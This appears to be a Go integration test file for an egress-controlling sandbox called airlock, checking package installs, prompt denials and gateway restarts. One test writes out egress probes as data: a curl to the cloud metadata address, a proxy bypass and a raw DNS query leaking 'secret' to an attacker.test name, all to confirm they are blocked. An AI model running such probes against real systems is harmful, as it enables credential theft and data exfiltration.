@@ -1,0 +1,468 @@
+package test
+
+import (
+	"bytes"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"math/big"
+	"net"
+	"net/http"
+	"net/http/cgi"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"airlock.dev/airlock"
+	"airlock.dev/airlock/client"
+	"airlock.dev/airlock/gateway/address"
+	"airlock.dev/airlock/policy"
+)
+
+// inside is a name that leads to this machine's loopback for the server of a
+// test, and for nobody else.
+const inside = "service.airlock.test"
+
+// networked starts a server whose sandboxes reach the registries that this
+// machine is configured for, and servers of the test at the name inside.
+func networked(t *testing.T, flags ...string) *network {
+	t.Helper()
+	needRoot(t)
+	s := &network{}
+	ca := s.authority(t)
+	dir := t.TempDir()
+	hosts, err := os.ReadFile("/etc/hosts")
+	if err != nil {
+		t.Fatal(err)
+	}
+	write := func(name, text string) string {
+		p := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	hostsFile := write("hosts", string(hosts)+"\n127.0.0.1 "+inside+"\n")
+	internet, err := policy.ProfileText("internet")
+	if err != nil {
+		t.Fatal(err)
+	}
+	write("policies/default.cedar", internet+`
+@id("servers-of-the-test")
+permit (principal, action in [Action::"net:connect", Action::"http:request"], resource)
+when { resource.name == "`+inside+`" && context.ip == ip("127.0.0.1") };
+`)
+	flags = append(flags, "--policies", filepath.Join(dir, "policies"), "--public-range", "127.0.0.1/32")
+	for _, p := range registryRanges(t) {
+		flags = append(flags, "--public-range", p.String())
+	}
+	in := []string{"unshare", "--mount", "--propagation", "private", "sh", "-c", `mount --bind "$0" /etc/hosts && exec "$@"`, hostsFile}
+	// The gateway trusts what its machine does, and here the test's own authority too.
+	bundle, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("SSL_CERT_FILE", write("roots.pem", string(bundle)+"\n"+string(ca)))
+	s.running = startServerIn(t, in, t.TempDir(), flags...)
+	return s
+}
+
+// network is a server whose sandboxes have one.
+type network struct {
+	*running
+	caCert *x509.Certificate // an authority that its gateway trusts
+	caKey  *ecdsa.PrivateKey
+}
+
+// authority makes one, and returns its certificate in PEM.
+func (s *network) authority(t *testing.T) []byte {
+	t.Helper()
+	var err error
+	if s.caKey, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
+		t.Fatal(err)
+	}
+	template := &x509.Certificate{
+		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "authority of a test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
+		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, s.caKey.Public(), s.caKey)
+	if err == nil {
+		s.caCert, err = x509.ParseCertificate(der)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+}
+
+// secure serves HTTPS at the name inside, and returns its URL.
+func (s *network) secure(t *testing.T, h http.Handler) string {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{
+		SerialNumber: big.NewInt(2), DNSNames: []string{inside}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
+	}, s.caCert, key.Public(), s.caKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	server := httptest.NewUnstartedServer(h)
+	server.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
+	server.EnableHTTP2 = true
+	server.StartTLS()
+	t.Cleanup(server.Close)
+	return "https://" + inside + ":" + portOf(server) + "/"
+}
+
+// registryRanges are the addresses of the registries in the profile packages
+// that this machine reaches by addresses that are not public.
+func registryRanges(t *testing.T) (all []netip.Prefix) {
+	t.Helper()
+	text, err := policy.ProfileText("packages")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
+	defer cancel()
+	seen := map[string]bool{}
+	for _, m := range regexp.MustCompile(`"([a-z0-9-]+(\.[a-z0-9-]+)+)"`).FindAllStringSubmatch(text, -1) {
+		if seen[m[1]] {
+			continue
+		}
+		seen[m[1]] = true
+		found, _ := net.DefaultResolver.LookupNetIP(ctx, "ip", m[1]+".")
+		for _, ip := range found {
+			p := netip.PrefixFrom(ip.Unmap(), ip.Unmap().BitLen())
+			if address.Classify(ip) == address.Documentation && !slices.Contains(all, p) {
+				all = append(all, p)
+			}
+		}
+	}
+	return all
+}
+
+// ownPolicy is what a client asks for who wants packages and the test's servers.
+const ownPolicy = `
+@id("servers") permit (principal, action in [Action::"net:connect", Action::"http:request"], resource)
+when { resource.name == "` + inside + `" && context.ip == ip("127.0.0.1") };
+@id("names") permit (principal, action == Action::"dns:resolve", resource) when { resource.name == "` + inside + `" };
+`
+
+// gitServer serves a repository with one file over smart HTTP.
+func gitServer(t *testing.T) (url string) {
+	t.Helper()
+	git, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("git is not installed")
+	}
+	dir := t.TempDir()
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main", "work"},
+		{"-C", "work", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "first light"},
+		{"clone", "-q", "--bare", "work", "repo.git"},
+	} {
+		cmd := exec.Command(git, args...)
+		cmd.Dir = dir
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %s: %v\n%s", args, err, out)
+		}
+	}
+	backend := &cgi.Handler{Path: git, Args: []string{"http-backend"}, Env: []string{"GIT_PROJECT_ROOT=" + dir, "GIT_HTTP_EXPORT_ALL=1", "HOME=" + dir, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}}
+	s := httptest.NewServer(backend)
+	t.Cleanup(s.Close)
+	return "http://" + inside + ":" + portOf(s) + "/repo.git"
+}
+
+func portOf(s *httptest.Server) string {
+	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
+	return port
+}
+
+// reached are the crossings of a sandbox, as one command tells them.
+type reached struct {
+	Action, Effect, Resource, Method, Path, Outcome string
+	Status, BytesOut, BytesIn                       int64
+	Policies                                        []string
+}
+
+func (s *running) crossings(sandbox string) (all []reached) {
+	s.t.Helper()
+	cmd := exec.Command(filepath.Join(binDir, "airlock"), "--data-dir", s.dataDir, "audit", "crossings", sandbox, "--json")
+	cmd.Env = []string{}
+	var stderr bytes.Buffer
+	cmd.Stderr = &stderr
+	out, err := cmd.Output()
+	if err != nil {
+		s.t.Fatalf("airlock audit crossings: %v\n%s", err, &stderr)
+	}
+	for line := range strings.Lines(string(out)) {
+		var r reached
+		if err := json.Unmarshal([]byte(line), &r); err != nil {
+			s.t.Fatalf("%s: %v", line, err)
+		}
+		all = append(all, r)
+	}
+	return all
+}
+
+// The promise of the profile packages: the package managers work with what the
+// machine is configured for, and the trail has each request.
+func TestPackages(t *testing.T) {
+	s := networked(t)
+	c := s.as(s.key("red", airlock.Client))
+	repo := gitServer(t)
+	sb := create(t, c, client.CreateRequest{Timeout: 10 * time.Minute, Profile: "packages", Policy: ownPolicy, Limits: airlock.Limits{MemoryMB: 2048}})
+	off := create(t, c, client.CreateRequest{Timeout: 10 * time.Minute, Profile: "offline"})
+	for _, tool := range []struct {
+		name, host, needs string // host is where one of its requests must go
+		line              string
+		fails             string // offline, in at most a few seconds
+	}{
+		{"pip", "", "python3", `cd $(mktemp -d) && python3 -m venv v && v/bin/pip install -q --no-cache-dir --retries 0 six && v/bin/python -c 'import six; print("works")'`, "403|resolve|No matching"},
+		{"npm", "", "npm", `cd $(mktemp -d) && npm install --silent --no-audit --fetch-retries=0 left-pad && node -e 'require("left-pad"); console.log("works")'`, "403|ENOTFOUND|EAI_AGAIN|.*"},
+		{"go", "", "go", `cd $(mktemp -d) && export PATH=$PATH:/usr/local/go/bin HOME=$PWD GOFLAGS=-modcacherw && go mod init x 2>/dev/null && go mod edit -require=golang.org/x/text@v0.3.0 && go mod download golang.org/x/text@v0.3.0 && echo works`, "lookup|403|dial|server misbehaving|no such host"},
+		{"git", inside, "git", `cd $(mktemp -d) && git clone -q ` + repo + ` r && git -C r log --format=%s && echo works`, "resolve"},
+	} {
+		t.Run(tool.name, func(t *testing.T) {
+			if _, err := exec.LookPath(tool.needs); err != nil {
+				t.Skipf("%s is not installed", tool.needs)
+			}
+			before := len(s.crossings(sb.ID))
+			if out := must(t, sb, tool.line); !strings.Contains(out, "works") {
+				t.Errorf("it does not work:\n%s", out)
+			}
+			hosts := map[string]int{}
+			for _, r := range s.crossings(sb.ID)[before:] {
+				if r.Action == "http:request" && r.Effect == "permit" && r.Outcome == "ok" && r.Status == 200 && r.BytesIn > 0 && r.Path != "" && len(r.Policies) > 1 {
+					hosts[r.Resource]++
+				}
+			}
+			if len(hosts) == 0 || tool.host != "" && hosts[tool.host] == 0 {
+				t.Errorf("requests in the trail: %v", hosts)
+			}
+
+			began := time.Now()
+			r, out := run(t, off, tool.line)
+			if took := time.Since(began); took > 20*time.Second {
+				t.Errorf("offline it took %s to fail", took)
+			}
+			if r.ExitCode == 0 || !regexp.MustCompile(tool.fails).MatchString(out) {
+				t.Errorf("offline: exit code %d\n%s", r.ExitCode, out)
+			}
+		})
+	}
+	denied := map[string]int{}
+	for _, r := range s.crossings(off.ID) {
+		denied[r.Effect]++
+	}
+	if denied["permit"] != 0 || denied["deny"] == 0 {
+		t.Errorf("offline, the trail has %v", denied)
+	}
+}
+
+// What is denied is denied at once, with the reason, and never hangs.
+func TestDeniedAtOnce(t *testing.T) {
+	s := networked(t)
+	c := s.as(s.key("red", airlock.Client))
+	off := create(t, c, client.CreateRequest{Timeout: 5 * time.Minute, Profile: "offline"})
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not installed")
+	}
+	for _, c := range []struct{ name, line, want string }{
+		{"a name", `curl -sS http://example.com/ 2>&1`, "Could not resolve host"},
+		{"an address", `curl -sS http://192.0.2.7/a 2>&1`, "no sandbox reaches|nothing in the"},
+		{"metadata", `curl -sS http://169.254.169.254/latest/meta-data 2>&1`, "metadata address, which no sandbox reaches"},
+		{"an address over TLS", `curl -sS https://93.184.216.34/ 2>&1`, `"code":403.*nothing in the`},
+		{"another port", `curl -sS http://93.184.216.34:22/ 2>&1`, "refused|Connection reset|Couldn't connect|Could not connect"},
+		{"QUIC", `python3 -c '
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("93.184.216.34", 443)); s.settimeout(2); s.send(b"x")
+try: s.recv(1)
+except ConnectionRefusedError: print("refused")'`, "refused"},
+		{"the way of its own", `curl -sS --proxy http://10.0.0.1:3128 http://example.com/ 2>&1`, `"code":403.*dns:resolve`},
+		{"the gateway", `curl -sS http://10.0.0.1/ 2>&1`, "refused|Connection reset|connect"},
+		{"DNS of one's own", `python3 -c '
+import socket
+q = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\x08attacker\4test\0\0\1\0\1"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ("93.184.216.34", 53)); print("rcode", s.recv(512)[3] & 15)'`, "rcode 5"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, out := run(t, off, `start=$(date +%s%N); `+c.line+`; echo; echo took $(( ($(date +%s%N) - start) / 1000000 ))`)
+			var millis int
+			if i := strings.LastIndex(out, "took "); i >= 0 {
+				fmt.Sscan(out[i+5:], &millis)
+			}
+			// The interpreter's own start is in it, on a busy machine.
+			if !regexp.MustCompile(c.want).MatchString(out) || millis > 2000 {
+				t.Errorf("after %d ms: %s", millis, out)
+			}
+		})
+	}
+	var got []string
+	for _, r := range s.crossings(off.ID) {
+		got = append(got, r.Effect+" "+r.Action+" "+r.Resource)
+	}
+	for _, want := range []string{"deny dns:resolve example.com", "deny http:request 169.254.169.254", "deny http:request 93.184.216.34", "deny net:connect 93.184.216.34", "deny dns:resolve secret.attacker.test"} {
+		if !slices.Contains(got, want) {
+			t.Errorf("the trail lacks %q:\n%s", want, strings.Join(got, "\n"))
+		}
+	}
+	if i := slices.IndexFunc(got, func(s string) bool { return !strings.HasPrefix(s, "deny") }); i >= 0 {
+		t.Errorf("the trail has %q", got[i])
+	}
+}
+
+// warm are programs that resolve a name and trust the roots once, and then ask
+// again and again; each prints "ok hello" for every answer.
+var warm = []struct{ name, needs, file, code, run string }{
+	{"python", "python3", "warm.py", `
+import ssl, time, urllib.request
+context = ssl.create_default_context()
+while True:
+    try:
+        print("ok", urllib.request.urlopen("URL", timeout=5, context=context).read().decode(), flush=True)
+    except Exception as e:
+        print("failed", e, flush=True)
+    time.sleep(0.1)
+`, "python3 warm.py"},
+	{"node", "node", "warm.mjs", `
+for (;;) {
+  try { console.log("ok", await (await fetch("URL")).text()) } catch (e) { console.log("failed", e.cause ?? e) }
+  await new Promise(r => setTimeout(r, 100))
+}
+`, "node warm.mjs"},
+	{"java", "java", "Warm.java", `
+import java.net.URI;
+import java.net.http.*;
+public class Warm {
+  public static void main(String[] a) throws Exception {
+    var client = HttpClient.newHttpClient();
+    for (;;) {
+      try {
+        System.out.println("ok " + client.send(HttpRequest.newBuilder(URI.create("URL")).build(), HttpResponse.BodyHandlers.ofString()).body());
+      } catch (Exception e) { System.out.println("failed " + e); }
+      Thread.sleep(100);
+    }
+  }
+}
+`, "java Warm.java"},
+}
+
+// A gateway that is killed takes connections with it, and nothing else: what
+// runs in a sandbox finds the names that it knew, and trusts what it trusted.
+func TestGatewayKilled(t *testing.T) {
+	s := networked(t)
+	c := s.as(s.key("red", airlock.Client))
+	url := s.secure(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") }))
+	sb := create(t, c, client.CreateRequest{Timeout: 10 * time.Minute, Policy: ownPolicy, Limits: airlock.Limits{MemoryMB: 2048}})
+	var started []string
+	for _, w := range warm {
+		if _, err := exec.LookPath(w.needs); err != nil {
+			t.Logf("%s is not installed", w.needs)
+			continue
+		}
+		if err := sb.Upload(t.Context(), w.file, strings.NewReader(strings.ReplaceAll(w.code, "URL", url)), 0); err != nil {
+			t.Fatal(err)
+		}
+		must(t, sb, "nohup "+w.run+" >>/tmp/"+w.name+".log 2>&1 &")
+		started = append(started, w.name)
+	}
+	if len(started) == 0 {
+		t.Skip("none of python3, node and java is installed")
+	}
+	// said counts what a program did since the last mark.
+	said := func(name string) int {
+		n, err := strconv.Atoi(strings.TrimSpace(must(t, sb, `tac /tmp/`+name+`.log | sed '/^mark/,$d' | grep -c "^ok hello$" || true`)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return n
+	}
+	all := func() {
+		t.Helper()
+		for _, name := range started {
+			defer func() {
+				if t.Failed() {
+					t.Logf("%s: %s", name, must(t, sb, "tail -n 5 /tmp/"+name+".log"))
+				}
+			}()
+			until(t, func() bool { return said(name) > 3 })
+		}
+	}
+	all()
+	pid := gatewayOf(t, s)
+	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	until(t, func() bool { next := gatewayPID(s); return next != 0 && next != pid })
+	for _, name := range started {
+		must(t, sb, "echo mark >> /tmp/"+name+".log")
+	}
+	all()
+}
+
+// until waits for something that takes a moment.
+func until(t *testing.T, what func() bool) {
+	t.Helper()
+	for deadline := time.Now().Add(30 * time.Second); !what(); time.Sleep(50 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("it did not happen within 30 s")
+		}
+	}
+}
+
+func gatewayOf(t *testing.T, s *network) int {
+	t.Helper()
+	pid := gatewayPID(s)
+	if pid == 0 {
+		t.Fatal("there is no gateway")
+	}
+	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{fmt.Sprintf("Uid:\t%d", airlock.GatewayUser), "CapEff:\t0000000000000000", "NoNewPrivs:\t1", "Groups:\t \n"} {
+		if !strings.Contains(string(status), want) {
+			t.Errorf("the gateway's status lacks %q", want)
+		}
+	}
+	return pid
+}
+
+// gatewayPID is that of the server's gateway: the one below the test's own.
+func gatewayPID(s *network) int {
+	server := s.server()
+	children, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", server))
+	for _, file := range children {
+		text, _ := os.ReadFile(file)
+		for _, f := range strings.Fields(string(text)) {
+			if name, _ := os.ReadFile("/proc/" + f + "/cmdline"); strings.HasPrefix(string(name), "airlock-gateway") {
+				var pid int
+				fmt.Sscan(f, &pid)
+				return pid
+			}
+		}
+	}
+	return 0
+}
